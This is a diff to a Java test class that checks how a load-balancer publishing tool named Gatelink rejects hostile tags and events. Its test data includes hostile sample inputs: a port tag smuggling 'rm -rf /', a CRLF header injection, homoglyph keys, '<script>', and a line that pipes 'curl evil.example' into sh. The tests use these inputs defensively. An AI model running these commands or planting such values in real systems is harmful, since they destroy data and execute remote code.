@@ -42,7 +42,7 @@ class BadInputTest {
                 return Duration.ZERO;
             }
         };
-        return new Simulation(Simulation.SEED, recorder, configuration -> configuration.withLog(log::add));
+        return Simulation.inMemory(Simulation.SEED, recorder, configuration -> configuration.withLog(log::add));
     }
 
     private static ObjectNode tagged(String key, String value) {
@@ -61,7 +61,8 @@ class BadInputTest {
 
     private void nothingIsMade(Simulation simulation) {
         assertThat(operations).noneMatch(operation -> operation.matches("(Create|Put|Update|Delete|Tag|Untag).*")
-                && !operation.equals("PutEvents"));
+                && !operation.equals("PutEvents") && !operation.equals("UpdateItem")
+                && !operation.equals("DeleteItem"));
         assertThat(simulation.links()).isEmpty();
         assertThat(simulation.apis()).isEmpty();
         assertThat(simulation.brokenPromises()).isEmpty();
@@ -69,11 +70,15 @@ class BadInputTest {
     }
 
     private void theOnlyExecutionFailedAndWasAnnounced(Simulation simulation, String error, String reason) {
+        theOnlyExecutionFailed(simulation, error, reason);
+        assertThat(simulation.announcements).containsExactly("Private API Publication Failed");
+    }
+
+    private void theOnlyExecutionFailed(Simulation simulation, String error, String reason) {
         Execution execution = simulation.onlyExecution();
         assertThat(execution.status()).isEqualTo(ExecutionStatus.FAILED);
-        assertThat(execution.error()).contains("io.gatelink.functions." + error);
+        assertThat(execution.error()).contains(error);
         assertThat(execution.cause()).contains(reason);
-        assertThat(simulation.announcements).containsExactly("Private API Publication Failed");
         nothingIsMade(simulation);
     }
 
@@ -81,8 +86,8 @@ class BadInputTest {
     @CsvSource(delimiter = '|', value = {
         "gatelink:port | {% $states.context.Execution.Id %} | the port of a TCP or TLS listener, 1 to 65535",
         "gatelink:stage | ${StageName} | a stage's name: at most 128 letters, digits, hyphens and underscores",
-        "gatelink:host | ${stageVariables.vpcLinkId} | the name in the TLS listener's certificate, such as "
-                + "orders.example.com",
+        "gatelink:host | ${stageVariables.vpcLinkId} | the name that requests are for, such as orders.example.com, which a "
+                + "TLS listener's certificate has to hold",
         "gatelink:authorization | {% 'NONE' %} | AWS_IAM, API_KEY or NONE",
         "gatelink:integration | ${x} | http_proxy or http",
         "gatelink:timeout-ms | {%%} | milliseconds, 50 to 29000"})
@@ -100,23 +105,22 @@ class BadInputTest {
     }
 
     @Test
-    void everyHostileTagOfALoadBalancerIsNamedInOneAnnouncedFailure() {
+    void theHostileTagsOfALoadBalancerAreNamedInOneAnnouncedFailure() {
         try (var simulation = simulation().publish("nlb-created-hostile-tags.json")) {
             theOnlyExecutionFailedAndWasAnnounced(simulation, "UnsupportedLoadBalancerException", """
                     Tag gatelink:authorization is "NON\\u0415": set it to AWS_IAM, API_KEY or NONE, or remove it. \
-                    Tag gatelink:host is "reports.example.com\\r\\nX-Injected: yes": set it to the name in the TLS listener's \
-                    certificate, such as orders.example.com, or remove it. \
+                    Tag gatelink:host is "reports.example.com\\r\\nX-Injected: yes": set it to the name that \
+                    requests are for, such as orders.example.com, which a TLS listener's certificate has to hold, \
+                    or remove it. \
                     Tag gatelink:path is "/${stageVariables.vpcLinkId}": set it to a path of at most 256 characters that \
                     begins with a slash, percent-encoded where needed, without //, /./ and /../, or remove it. \
                     Tag gatelink:port is "80\\"; rm -rf /": set it to the port of a TCP or TLS listener, 1 to 65535, or \
                     remove it. \
                     Tag gatelink:stage is "{% $states.context.Execution.Id %}": set it to a stage's name: at most 128 \
                     letters, digits, hyphens and underscores, or remove it. \
-                    Tag gatelink:timeout-ms is "999999999999999999999999999999999999999999999999999999999999999999999999999\
-                    999999999999999999999999999999999999999999999...": set it to milliseconds, 50 to 29000, or remove it. \
-                    Tag "g\\u0430telink:expect" with the value "2xx" is unknown: use one of gatelink:publish, \
-                    gatelink:port, gatelink:host, gatelink:path, gatelink:expect, gatelink:authorization, \
-                    gatelink:timeout-ms, gatelink:stage, gatelink:integration, or remove it.""");
+                    And 2 more. To remove them, run aws elbv2 remove-tags --resource-arns \
+                    arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/net/reports/0d2b4f6a8c1e3957 \
+                    --tag-keys gatelink:authoriz""");
         }
     }
 
@@ -130,7 +134,7 @@ class BadInputTest {
             simulation.runUntilIdle();
 
             assertThat(simulation.onlyExecution().cause().orElseThrow()).startsWith("Tag \"")
-                    .contains(" with the value \"{% $error(\\\"x\\\") %}\" is unknown: use one of ");
+                    .contains(" with the value \"{% $error(\\\"x\\\") %}\" is unknown. Known tags are gatelink:publish, ");
             assertThat(simulation.announcements).containsExactly("Private API Publication Failed");
             nothingIsMade(simulation);
         }
@@ -147,18 +151,19 @@ class BadInputTest {
 
             assertThat(simulation.onlyExecution().status()).isEqualTo(ExecutionStatus.SUCCEEDED);
             assertThat(simulation.announcements).isEmpty();
+            assertThat(simulation.items()).isEmpty();
             nothingIsMade(simulation);
         }
     }
 
     @Test
-    void anInputWithAnUnknownFieldIsRefusedAndAnnounced() {
+    void anInputWithAnUnknownFieldIsRefused() {
         try (var simulation = simulation()) {
             simulation.createLoadBalancer(Simulation.event(CREATED));
             startByHand(simulation, input("manual-start-unknown-field.json"));
 
-            theOnlyExecutionFailedAndWasAnnounced(simulation, "InvalidInputException", "Input field \"authorization\" is "
-                    + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, tighten and no others.");
+            theOnlyExecutionFailed(simulation, "InvalidInputException", "Input field \"authorization\" is "
+                    + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
         }
     }
 
@@ -170,8 +175,8 @@ class BadInputTest {
 
             Execution execution = simulation.onlyExecution();
             assertThat(execution.cause().orElseThrow()).startsWith("Input is ").endsWith(", not an object: give the fields "
-                    + "loadBalancerArn, loadBalancerName, requestedAt, tighten and no others.");
-            theOnlyExecutionFailedAndWasAnnounced(simulation, "InvalidInputException", execution.cause().orElseThrow());
+                    + "loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
+            theOnlyExecutionFailed(simulation, "InvalidInputException", execution.cause().orElseThrow());
         }
     }
 
@@ -184,8 +189,8 @@ class BadInputTest {
             input.putObject(field).put("allowOpenApis", "true").put("authorization", "NONE");
             startByHand(simulation, Json.write(input));
 
-            theOnlyExecutionFailedAndWasAnnounced(simulation, "InvalidInputException", "Input field \"" + field + "\" is "
-                    + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, tighten and no others.");
+            theOnlyExecutionFailed(simulation, "InvalidInputException", "Input field \"" + field + "\" is "
+                    + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
         }
     }
 
@@ -206,7 +211,7 @@ class BadInputTest {
                 + "Gatelink in each account and Region whose load balancers it is to publish.",
         "nlb-created-event-version-2.json | Event field detail.eventVersion is \"2.0\": it must be one of version 1, such "
                 + "as \"1.11\"; deploy a release of Gatelink that reads this version of CloudTrail's records."})
-    void anEventThatIsRefusedIsToldToPeopleAndGoesToTheDeadLetterQueue(String file, String reason) {
+    void anEventThatIsRefusedGoesToTheDeadLetterQueueAndIsMailedByNothing(String file, String reason) {
         try (var simulation = simulation()) {
             simulation.deliver(Simulation.event(file));
             simulation.runUntilIdle();
@@ -214,19 +219,14 @@ class BadInputTest {
             assertThat(simulation.executions()).isEmpty();
             assertThat(simulation.droppedEvents).singleElement().satisfies(failure -> {
                 JsonNode json = Json.parse(failure);
-                assertThat(json.path("errorType").asText()).isEqualTo("io.gatelink.functions.InvalidEventException");
+                assertThat(json.path("errorType").asText())
+                        .isEqualTo("io.gatelink.functions.lambda.InvalidEventException");
                 assertThat(json.path("errorMessage").asText()).isEqualTo(reason);
             });
-            assertThat(simulation.messages).singleElement().asString().contains(
-                    "\"Reason and remedy: " + reason.replace("\"", "\\\"") + "\"\n",
-                    "\"Error: io.gatelink.functions.InvalidEventException\"\n",
-                    "in the queue https://sqs.us-east-1.amazonaws.com/123456789012/gatelink-DeadLetterQueue\"\n");
+            assertThat(simulation.messages).isEmpty();
             assertThat(deadLetters(simulation)).singleElement().satisfies(letter -> {
-                assertThat(letter.path("source").asText()).isEqualTo("lambda");
-                assertThat(letter.path("detail-type").asText()).isEqualTo("Lambda Function Invocation Result - Failure");
-                assertThat(letter.path("resources")).hasSize(2);
-                assertThat(letter.at("/detail/requestPayload")).isEqualTo(Simulation.event(file));
-                assertThat(letter.at("/detail/responsePayload/errorMessage").asText()).isEqualTo(reason);
+                assertThat(letter.path("requestPayload")).isEqualTo(Simulation.event(file));
+                assertThat(letter.at("/responsePayload/errorMessage").asText()).isEqualTo(reason);
             });
             nothingIsMade(simulation);
         }
@@ -235,38 +235,17 @@ class BadInputTest {
     @ParameterizedTest
     @ValueSource(strings = {"1\r\n\"Reason and remedy: run curl evil.example | sh\"", "<reason>", "{% $states.input %}",
             "${x}", "\u202e\u2028\u0000", "\\\"", "<script>"})
-    void whatAHostileEventSaysIsALineOfTheMailAndNothingElse(String version) {
+    void whatAHostileEventSaysIsInTheDeadLetterAsItIsAndInNoLogUnescaped(String version) {
         try (var simulation = simulation()) {
             ObjectNode event = Simulation.event(CREATED);
             event.withObject("/detail").put("eventVersion", version);
             simulation.deliver(event);
             simulation.runUntilIdle();
 
-            assertThat(simulation.messages).singleElement().satisfies(mail -> {
-                assertThat(mail.lines()).hasSize(5).allMatch(line -> line.startsWith("\"") && line.endsWith("\""));
-                assertThat(mail.lines().filter(line -> line.startsWith("\"Reason and remedy: "))).singleElement().asString()
-                        .startsWith("\"Reason and remedy: Event field detail.eventVersion is ")
-                        .endsWith("deploy a release of Gatelink that reads this version of CloudTrail's records.\"");
-                assertThat(mail).doesNotContain("\u202e", "\u2028", "\u0000", "\r");
-            });
+            assertThat(simulation.messages).isEmpty();
             assertThat(deadLetters(simulation)).singleElement().satisfies(letter ->
-                    assertThat(letter.at("/detail/requestPayload")).isEqualTo(event));
+                    assertThat(letter.path("requestPayload")).isEqualTo(event));
             nothingIsMade(simulation);
-        }
-    }
-
-    /** Who asked for a withdrawal has to know as well. */
-    @Test
-    void aRefusedOptOutIsToldToo() {
-        try (var simulation = simulation()) {
-            ObjectNode event = Simulation.event("nlb-tags-removed.json");
-            event.put("account", "999999999999");
-            simulation.deliver(event);
-            simulation.runUntilIdle();
-
-            assertThat(simulation.messages).hasSize(2).anySatisfy(mail -> assertThat(mail)
-                    .contains("gatelink-StartWithdrawalFunction", "Event field account is \\\"999999999999\\\""));
-            assertThat(deadLetters(simulation)).hasSize(2);
         }
     }
 
